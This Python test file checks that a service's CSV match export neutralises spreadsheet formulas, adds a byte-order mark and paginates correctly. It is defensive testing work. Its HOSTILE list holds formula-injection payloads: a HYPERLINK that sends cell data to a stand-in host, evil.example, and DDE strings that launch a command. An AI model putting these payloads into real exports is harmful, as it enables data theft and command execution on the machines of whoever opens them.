"""The matches CSV is safe to open in a spreadsheet: cells that would start a formula are
neutralised, quoting is kept, and a UTF-8 byte-order mark comes first unless ``?bom=false``
(issue 14, item 12)."""

from __future__ import annotations

import csv
import io

import httpx

from service.routes import jobs as jobs_routes
from tests.e2e.helpers import create_job, create_project, drive, products, upload

HOSTILE = [
    '=HYPERLINK("http://evil.example/?"&A1, "click")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\tTabbed 4",
    "\rCarriage 5",
    'Sony® "quoted", with comma\nand a new line',
]


async def _export(client: httpx.AsyncClient, job_id: str, **params: str) -> httpx.Response:
    r = await client.get(f"/api/jobs/{job_id}/matches", params={"format": "csv", **params})
    assert r.status_code == 200, r.text
    return r


async def test_the_csv_neutralises_formulas_and_starts_with_a_bom(
    client: httpx.AsyncClient,
) -> None:
    pid = await create_project(client, "export")
    records = [{"id": f"={n}+1" if n < 2 else f"r{n}", "name": t} for n, t in enumerate(HOSTILE)]
    await upload(client, pid, "catalog", records)
    await upload(client, pid, "items", records)
    job = await create_job(client, pid, {"threshold": 0.3})
    await drive(client, job["id"])

    raw = (await _export(client, job["id"])).content
    assert raw.startswith(b"\xef\xbb\xbfitem_id,")
    rows = list(csv.DictReader(io.StringIO(raw.decode("utf-8-sig"), newline="")))
    by_text = {r["item_text"]: r for r in rows}
    assert len(by_text) == len(HOSTILE)
    for text in HOSTILE[:6]:
        row = by_text["'" + text]  # an apostrophe first: shown as text, never run
        assert row["catalog_text"] == "'" + text
    assert by_text[HOSTILE[6]]["catalog_text"] == HOSTILE[6]  # untouched, quoting intact
    ids = {r["item_id"] for r in rows} | {r["catalog_id"] for r in rows}
    assert {"'=0+1", "'=1+1"} <= ids
    for row in rows:
        for column in ("item_id", "item_text", "catalog_id", "catalog_text", "method", "reason"):
            assert not row[column].startswith(("=", "+", "-", "@", "\t", "\r")), row
        float(row["score"])

    plain = (await _export(client, job["id"], bom="false")).content
    assert plain.startswith(b"item_id,") and plain == raw[3:]


async def test_bom_takes_true_or_false(client: httpx.AsyncClient) -> None:
    pid = await create_project(client, "export bom")
    await upload(client, pid, "catalog", [{"id": "1", "name": "x"}])
    await upload(client, pid, "items", [{"id": "1", "name": "x"}])
    job = await create_job(client, pid)
    r = await client.get(f"/api/jobs/{job['id']}/matches", params={"format": "csv", "bom": "no"})
    assert r.status_code == 422


async def test_a_csv_of_many_pages_holds_every_match_once_in_order(
    client: httpx.AsyncClient, monkeypatch
) -> None:
    """The CSV is read in pages, each next one while the last is written: with pages of 7
    matches, a job of 50 gives 8 pages (the last one short), and one of 49 ends on a full
    page, then an empty one."""
    monkeypatch.setattr(jobs_routes, "CSV_PAGE", 7)  # the live server runs in this process
    for n in (50, 49):
        pid = await create_project(client, f"export pages {n}")
        records = products(n)
        await upload(client, pid, "catalog", records)
        await upload(client, pid, "items", records)
        job = await create_job(client, pid)
        await drive(client, job["id"])
        pages = []
        cursor = None
        while True:
            params = {"limit": 20} | ({"cursor": cursor} if cursor else {})
            body = (await client.get(f"/api/jobs/{job['id']}/matches", params=params)).json()
            pages += [(m["itemId"], m["catalogId"]) for m in body["matches"]]
            cursor = body["nextCursor"]
            if not cursor:
                break
        raw = (await _export(client, job["id"], bom="false")).text
        rows = list(csv.DictReader(io.StringIO(raw, newline="")))
        assert [(r["item_id"], r["catalog_id"]) for r in rows] == pages
        assert len(rows) == n and len({r["item_id"] for r in rows}) == n
